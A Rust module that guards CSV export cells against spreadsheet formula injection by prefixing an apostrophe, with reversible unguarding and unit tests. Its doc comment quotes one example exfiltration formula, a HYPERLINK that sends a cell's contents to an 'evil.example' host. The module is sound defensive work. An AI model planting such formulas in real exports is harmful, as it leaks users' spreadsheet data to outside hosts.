//! Spreadsheet formula injection guard for CSV text cells.
//!
//! A CSV export is usually opened in a spreadsheet, and a spreadsheet runs a
//! cell that begins with `=`, `+`, `-`, `@` (or a tab or carriage return,
//! which some of them skip before looking) as a formula: a goal titled
//! `=HYPERLINK("https://evil.example/?"&A1,"Open")` typed in Slack would
//! become a live link or worse on a leader's laptop. So in CSV files every
//! free-text cell that would start a formula gets a leading `'`, the
//! spreadsheets' own "this is text" mark, which they hide.
//!
//! The guard is reversible: a text that already starts with apostrophes in
//! front of a trigger gets one more, and [`unguard`] removes exactly one, so
//! `import` reads back exactly what was written in Slack. JSON files are
//! never guarded: nothing evaluates JSON.

use std::borrow::Cow;

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn needs_mark(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell to write for `text`: unchanged, or with one leading `'`.
pub fn guard(text: &str) -> Cow<'_, str> {
    if needs_mark(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text a guarded cell stands for (the inverse of [`guard`]); a cell
/// written by hand without the mark is taken as it is.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

/// Guards a text field in place.
pub fn guard_in_place(text: &mut String) {
    if let Cow::Owned(marked) = guard(text) {
        *text = marked;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_marked_and_plain_text_is_left_alone() {
        assert_eq!(guard("=SUM(A1:A9)"), "'=SUM(A1:A9)");
        assert_eq!(guard("+1 555"), "'+1 555");
        assert_eq!(guard("-5 falls"), "'-5 falls");
        assert_eq!(guard("@here"), "'@here");
        assert_eq!(guard("\tcmd"), "'\tcmd");
        assert_eq!(guard("Cut wait times = good"), "Cut wait times = good");
        assert_eq!(guard("'quoted'"), "'quoted'");
        assert_eq!(guard(""), "");
    }

    #[test]
    fn unguard_inverts_guard_for_every_shape_of_text() {
        for text in [
            "=1+1",
            "'=1+1",
            "''=1+1",
            "'plain",
            "''",
            "'",
            "plain",
            "-",
            "",
            "ünïcödé =",
        ] {
            assert_eq!(unguard(&guard(text)), text, "{text:?}");
        }
    }

    #[test]
    fn a_hand_written_formula_cell_is_taken_as_written() {
        assert_eq!(unguard("=1+1"), "=1+1");
        assert_eq!(unguard("'hello"), "'hello");
    }
}
